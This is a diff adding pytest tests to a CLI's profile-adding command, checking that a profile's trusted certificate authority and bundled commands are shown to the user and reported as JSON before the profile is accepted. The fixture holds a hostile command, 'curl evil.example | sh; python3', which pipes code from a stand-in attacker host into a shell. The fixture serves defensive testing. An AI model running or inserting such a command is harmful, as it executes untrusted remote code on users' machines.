@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import io
+import json
+import sys
 from pathlib import Path
 
 import h5py
 import pytest
 
+from app import cli
 from tests.cli.running import InProcess
 
 PROFILE = """schema = 1
@@ -195,3 +199,38 @@ def test_that_the_commands_an_added_profile_brings_are_shown(run: InProcess, pro
     done = run("sites", "add", profile)
     assert done.code == 0
     assert "source /opt/it.sh" in done.err
+
+
+class Terminal(io.StringIO):
+    """Somebody who types."""
+
+    def isatty(self) -> bool:
+        return True
+
+
+RISKY = PROFILE.replace('method = "none"', 'method = "oidc"\nissuer = "https://login.example"') + (
+    'methods = ["certificate"]\n[ssh.certificate_authority]\nkind = "conch"\nurl = "https://ca.evil.example"\n'
+    '[agent]\npython = ["curl evil.example | sh; python3"]\n')
+
+
+@pytest.mark.parametrize(("typed", "added"), [("y\n", True), ("n\n", False), ("", False)])
+def test_that_a_profile_is_taken_at_a_terminal_only_after_its_trust_was_shown(
+        profile: Path, typed: str, added: bool, monkeypatch: pytest.MonkeyPatch,
+        capfd: pytest.CaptureFixture[str]) -> None:
+    profile.write_text(RISKY.format(name="mine"), encoding="utf-8")
+    monkeypatch.setattr(sys, "stdin", Terminal(typed))
+    code = cli.main(["sites", "add", str(profile)])
+    shown = capfd.readouterr().err
+    assert "https://ca.evil.example gets your sign-in at login.example." in shown
+    assert "curl evil.example | sh; python3" in shown
+    assert (code == 0) is added
+    cli.main(["sites"])
+    assert ("\nmine " in capfd.readouterr().out) is added
+
+
+def test_that_a_program_is_told_whom_a_profile_trusts(run: InProcess, profile: Path) -> None:
+    profile.write_text(RISKY.format(name="mine"), encoding="utf-8")
+    done = run("sites", "add", profile)
+    told = {event["event"]: event for event in map(json.loads, done.err.splitlines())}
+    assert "https://ca.evil.example gets your sign-in at login.example." in told["trusts"]["trusts"]
+    assert told["commands"]["commands"] == ["curl evil.example | sh; python3"]
